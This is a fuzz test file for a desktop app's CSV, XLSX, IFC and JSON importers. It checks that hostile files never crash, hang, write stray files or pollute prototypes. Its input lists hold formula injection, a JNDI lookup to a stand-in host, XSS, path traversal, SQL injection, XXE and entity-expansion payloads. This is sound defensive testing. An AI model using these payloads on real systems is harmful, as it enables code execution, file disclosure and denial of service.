// Hostile files of each form, on a fixed budget of time: never a throw, never a hang, nothing written anywhere else, and
// what was understood can be taken in and taken back. LINTELBOOK_FUZZ_SEED draws other ones; the seed is printed.
import { strToU8, unzipSync, zipSync } from 'fflate'
import fc from 'fast-check'
import fs from 'node:fs'
import path from 'node:path'
import Papa from 'papaparse'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { compareWithJob, noChoices, planTakeIn, readPlainFile } from '../../../core/exchange/index.ts'
import { problemSentence, readFileBytes, writeCsv, writeWorkbook } from '../../../electron/intake/index.ts'
import { makeJobFile, makeJobFromTwin, writeJobAsTwin, type JobFile } from '../../../electron/store/index.ts'
import { optionsAt, smallRecords, temporaryFolder } from '../store/support.ts'
import { fixture } from './support.ts'

const seed = Number(process.env['LINTELBOOK_FUZZ_SEED'] ?? 20_261_125)
/** Four readers: 14 seconds in all. */
const millisecondsEach = 3500
/** For one input; the machine may be busy beside it. */
const slowestMilliseconds = 5000

/** Runs until the time is over, and says how many inputs that were. */
async function onBudget<T>(
  what: string,
  inputs: fc.Arbitrary<T>,
  tried: (input: T) => Promise<void>,
): Promise<number> {
  let count = 0
  let slowest = 0
  const property = fc.asyncProperty(inputs, async (input) => {
    const start = performance.now()
    await tried(input)
    slowest = Math.max(slowest, performance.now() - start)
    expect(slowest, 'milliseconds for one input').toBeLessThan(slowestMilliseconds)
    count++
  })
  await fc.assert(property, { seed, numRuns: 100_000, interruptAfterTimeLimit: millisecondsEach })
  console.log(`${what}: ${count} inputs from seed ${seed}, the slowest ${slowest.toFixed(0)} ms`)
  return count
}

let job: JobFile
/** The job as text, before anything was taken in. */
let whole = ''
let counter = 0
beforeAll(() => {
  const folder = fs.mkdtempSync('/tmp/lintelbook-fuzz-')
  const made = makeJobFile(path.join(folder, 'fuzz.lintelbook'), smallRecords(), optionsAt())
  if (!made.ok) throw new Error(made.sentence)
  job = made.file
  whole = writeJobAsTwin(job)
})
afterAll(() => {
  const folder = path.dirname(job.path)
  expect(job.check()).toEqual({ sound: true, findings: [] })
  job.close()
  fs.rmSync(folder, { recursive: true })
})

const prototypeNames = Object.getOwnPropertyNames(Object.prototype).length
const here = path.resolve(import.meta.dirname, '../../..')
let before: string[] = []
const around = (): string[] =>
  [...fs.readdirSync(here), ...fs.readdirSync(path.dirname(job.path))]
    .filter((name) => !name.startsWith('fuzz.lintelbook'))
    .toSorted()
beforeEach(() => {
  before = around()
})
afterEach(() => {
  expect(Object.getOwnPropertyNames(Object.prototype)).toHaveLength(prototypeNames)
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  expect(around(), 'nothing written beside').toEqual(before)
})

/** Reads, understands, takes in, and takes it back: as the program does with a file that somebody sent. */
async function takenIn(name: string, bytes: Uint8Array): Promise<void> {
  const read = await readFileBytes(name, bytes)
  if (!read.ok) return expect(problemSentence(read.problem)).toMatch(/^[^\n]+\.$/)
  const reading = readPlainFile(read.file, { units: 'imperial', choices: noChoices, remembered: [] })
  const { understanding } = reading
  const comparison = compareWithJob(understanding, job.data)
  const { change } = planTakeIn({
    understanding,
    comparison,
    decisions: { items: {}, fields: {} },
    data: job.data,
    newId: () => `new-${counter++}`,
    file: name,
  })
  const openings = job.data.count('opening')
  const done = job.commit(change)
  if (!done.ok) throw new Error(done.sentence)
  if (done.edits.length > 0) expect(job.undo().ok).toBe(true)
  expect(job.data.count('opening')).toBe(openings)
}

const hostileTexts = [
  '__proto__',
  'constructor',
  'toString',
  'polluted',
  '=1+1',
  '=HYPERLINK("https://evil.example","click")',
  "=cmd|'/c calc'!A1",
  '@SUM(A1)',
  '+1',
  '-2+3',
  '\t=1',
  '＝1',
  '\0=1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../etc/passwd',
  '..\\..\\windows\\system32',
  '/dev/zero',
  'C:\\CON',
  'file:///etc/passwd',
  '%00',
  '\u202Egnp.exe',
  '\uFEFF',
  '\uD83D',
  '👨‍👩‍👧‍👦',
  'e\u0301'.repeat(50),
  '9'.repeat(400),
  '1e309',
  'NaN',
  '-0',
  '0x10',
  '½'.repeat(30),
  "'; DROP TABLE opening; --",
  '${jndi:ldap://evil.example}',
  'x'.repeat(40_000),
  '(((((((((((((((((((((((((((((((('.repeat(40),
  '3-0 x 7-0 '.repeat(500),
] as const
const headings = [
  'Mark',
  'Door No',
  'Hand',
  'Level',
  'Size',
  'Width',
  'Height',
  'Label',
  'Serial',
  'Notes',
  'To',
]
const text = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom<string>(...hostileTexts) },
  { weight: 3, arbitrary: fc.constantFrom('101', '102', 'LH', 'RHR', 'Level 1', '3-0', '7-0', '90 MIN', '') },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
)
const table = fc.record({
  headings: fc.array(fc.oneof(fc.constantFrom(...headings), text), { minLength: 1, maxLength: 8 }),
  rows: fc.array(fc.array(text, { maxLength: 8 }), { maxLength: 8 }),
})

describe('on a fixed budget', () => {
  test('CSV', async () => {
    const csv = fc.record({
      table,
      delimiter: fc.constantFrom(',', ';', '\t', '|'),
      lineEnd: fc.constantFrom('\n', '\r\n', '\r'),
      quoted: fc.boolean(),
      coding: fc.constantFrom('utf8', 'utf16le', 'latin1'),
    }) as fc.Arbitrary<{
      table: { headings: string[]; rows: string[][] }
      delimiter: string
      lineEnd: string
      quoted: boolean
      coding: BufferEncoding
    }>
    const count = await onBudget(
      'CSV',
      csv,
      async ({ table: { headings: first, rows }, delimiter, lineEnd, quoted, coding }) => {
        const cell = (each: string): string => (quoted ? `"${each.replaceAll('"', '""')}"` : each)
        const lines = [first, ...rows].map((row) => row.map(cell).join(delimiter)).join(lineEnd)
        await takenIn('hostile.csv', Buffer.from(lines, coding))
      },
    )
    expect(count).toBeGreaterThan(20)
  }, 30_000)

  test('XLSX', async () => {
    const parts = unzipSync(fixture('formulas.xlsx'))
    const escape = (each: string): string =>
      each
        // oxlint-disable-next-line no-control-regex
        .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '')
        .toWellFormed()
        .replaceAll('&', '&amp;')
        .replaceAll('<', '&lt;')
        .replaceAll('"', '&quot;')
    const place = fc.constantFrom(
      'A1',
      'B2',
      'A0',
      'XFD1048576',
      'ZZZZ9',
      'A99999999999',
      '1A',
      '',
      '__proto__',
      'A-1',
    )
    const kind = fc.constantFrom('inlineStr', 's', 'str', 'n', 'b', 'd', 'e', '__proto__')
    const cells = fc.array(fc.tuple(place, kind, text), { maxLength: 30 })
    const extras = fc.constantFrom(
      '',
      '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
      '<dimension ref="A1:XFD1048576"/>',
      `${'<a>'.repeat(3000)}${'</a>'.repeat(3000)}`,
      '<sheetData>',
      '<dataValidations><dataValidation sqref="A1:A1048576"/></dataValidations>',
      ']]>',
      '<!--',
    )
    const doctype = fc.constantFrom(
      '',
      '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>',
      '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    )
    const extraName = fc.constantFrom('xl/a.xml', '../evil.xml', '/etc/evil', 'xl/../../evil.xml', 'a\\..\\b')
    const count = await onBudget(
      'XLSX',
      fc.tuple(cells, extras, doctype, extraName, fc.boolean()),
      async ([list, extra, type, name, withExtra]) => {
        const body = list
          .map(([at, t, words], index) => {
            const inner = t === 'inlineStr' ? `<is><t>${escape(words)}</t></is>` : `<v>${escape(words)}</v>`
            return `<row r="${index + 1}"><c r="${at}" t="${t}">${inner}</c></row>`
          })
          .join('')
        const sheet = `<?xml version="1.0"?>${type}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${body}</sheetData>${extra}</worksheet>`
        const bytes = zipSync(
          {
            ...parts,
            'xl/worksheets/sheet1.xml': strToU8(sheet),
            ...(withExtra ? { [name]: strToU8('x') } : {}),
          },
          { level: 0 },
        )
        await takenIn('hostile.xlsx', bytes)
      },
    )
    expect(count).toBeGreaterThan(20)
  }, 30_000)

  test('IFC', async () => {
    const model = Buffer.from(fixture('clinic-in-feet.ifc')).toString('latin1')
    const [head = '', tail = ''] = model.split('ENDSEC;\nEND-ISO')
    const coded = (each: string): string =>
      `'${each
        .toWellFormed()
        .replaceAll('\\', '\\\\')
        .replaceAll("'", "''")
        .replace(/[^ -~]/g, '')}'`
    const value = fc.oneof(
      text.map(coded),
      fc.constantFrom(
        '$',
        '*',
        '#1',
        '#24',
        '#9001',
        '#999999999999999999999',
        '.T.',
        '.ELEMENT.',
        '1E400',
        '-0.',
      ),
      fc.constantFrom(
        "'\\X2\\D83D\\X0\\'",
        "'\\X\\fc'",
        "'\\X4\\FFFFFFFF\\X0\\'",
        "'\\S\\",
        "'\\N\\'",
        '"00"',
      ),
      fc.integer({ min: 1, max: 3000 }).map((deep) => `${'('.repeat(deep)}${')'.repeat(deep)}`),
    )
    const entity = fc.constantFrom(
      'IFCDOOR',
      'IFCPROPERTYSET',
      'IFCPROPERTYSINGLEVALUE',
      'IFCRELDEFINESBYPROPERTIES',
      'IFCRELAGGREGATES',
      'IFCBUILDINGSTOREY',
      'IFCUNITASSIGNMENT',
      '__PROTO__',
    )
    const number = fc.oneof(
      fc.integer({ min: 1, max: 40 }),
      fc.integer({ min: 9000, max: 9010 }),
      fc.constantFrom(0, 2 ** 53),
    )
    const line = fc
      .tuple(number, entity, fc.array(value, { maxLength: 10 }))
      .map(([id, name, values]) => `#${id}=${name}(${values.join(',')});`)
    const count = await onBudget('IFC', fc.array(line, { minLength: 1, maxLength: 15 }), (lines) =>
      takenIn('hostile.ifc', Buffer.from(`${head}${lines.join('\n')}\nENDSEC;\nEND-ISO${tail}`, 'latin1')),
    )
    expect(count).toBeGreaterThan(20)
  }, 30_000)

  test('text twin', async () => {
    const value: fc.Arbitrary<unknown> = fc.oneof(
      text,
      fc.constantFrom<unknown>(null, true, -1, 1e308, 0.5, [], {}, [[]], { __proto__: null }),
      fc.jsonValue({ maxDepth: 4 }),
      fc.integer({ min: 1, max: 20_000 }).map((deep) => ({ deep })),
    )
    const place = fc.array(fc.nat(), { minLength: 1, maxLength: 6 })
    const key = fc.option(fc.constantFrom('__proto__', 'constructor', 'id', 'format', 'toString', 'extra'), {
      nil: null,
    })
    const count = await onBudget(
      'text twin',
      fc.array(fc.tuple(place, key, value), { minLength: 1, maxLength: 3 }),
      async (changes) => {
        const twin = JSON.parse(whole) as unknown
        const deepOnes: number[] = []
        for (const [where, name, each] of changes) {
          const isDeep = typeof each === 'object' && each !== null && 'deep' in each
          if (isDeep) deepOnes.push((each as { deep: number }).deep)
          putAt(twin, where, name, isDeep ? `deep-${deepOnes.length - 1}` : each)
        }
        const spoilt = JSON.stringify(twin).replace(/"deep-(\d)"/g, (_found, index: string) => {
          const deep = deepOnes[Number(index)] ?? 1
          return `${'['.repeat(deep)}${']'.repeat(deep)}`
        })
        const folder = temporaryFolder()
        const made = makeJobFromTwin(path.join(folder, 'twin.lintelbook'), spoilt, optionsAt())
        if (made.ok) {
          expect(
            made.file.check().findings.filter((finding) => !finding.includes('not in the file')),
          ).toEqual([])
          made.file.close()
        } else expect(made.sentence).toMatch(/\.$/)
        const there = fs.readdirSync(folder).filter((name) => name !== 'twin.lintelbook-backups')
        expect(there).toEqual(made.ok ? ['twin.lintelbook'] : [])
        fs.rmSync(folder, { recursive: true })
      },
    )
    expect(count).toBeGreaterThan(20)
  }, 30_000)
})

/** Puts a value somewhere into a tree: under a name of its own, or in place of what is there. */
function putAt(tree: unknown, where: readonly number[], name: string | null, value: unknown): void {
  let node = tree as Record<string, unknown>
  for (const step of where) {
    const keys = Object.keys(node)
    const key = keys[step % Math.max(1, keys.length)]
    const next = key === undefined ? undefined : node[key]
    if (typeof next !== 'object' || next === null || step === where.at(-1)) {
      const last = name ?? key ?? 'extra'
      // As a file would hold it: an own field, whatever it is called.
      Object.defineProperty(node, last, { value, enumerable: true, configurable: true, writable: true })
      return
    }
    node = next as Record<string, unknown>
  }
}

test('no reader has the file system at hand', () => {
  const folder = path.join(here, 'electron/intake')
  for (const name of fs.readdirSync(folder))
    expect(fs.readFileSync(path.join(folder, name), 'utf8'), name).not.toMatch(
      /from '(node:fs|node:child_process|node:http|node:net|node:dns)/,
    )
})

test('whatever text goes out as CSV or as a workbook, no cell of it can be run', async () => {
  const column = { heading: '=h', width: 10, form: 'text' } as const
  await fc.assert(
    fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 6 }), async (texts) => {
      const rows = texts.map((each) => [each])
      const csv = Buffer.from(writeCsv({ columns: [column], rows }))
        .toString('utf8')
        .slice(1)
      for (const [cell = ''] of Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' }).data)
        expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/)
      const workbook = unzipSync(await writeWorkbook([{ name: texts[0] ?? '', columns: [column], rows }]))
      for (const [name, bytes] of Object.entries(workbook)) {
        if (!name.startsWith('xl/worksheets/')) continue
        expect(Buffer.from(bytes).toString('utf8')).not.toMatch(/<f[ >]|<hyperlink/)
      }
    }),
    { seed, numRuns: 60 },
  )
}, 60_000)

test('a text twin that is a bomb of brackets ends in a sentence', () => {
  for (const bomb of ['['.repeat(2_000_000), `${'{"a":'.repeat(200_000)}1${'}'.repeat(200_000)}`]) {
    const refused = makeJobFromTwin(path.join(temporaryFolder(), 'a.lintelbook'), bomb, optionsAt())
    expect(refused.ok ? '' : refused.sentence).toMatch(/^[^\n]{10,400}\.$/)
  }
})
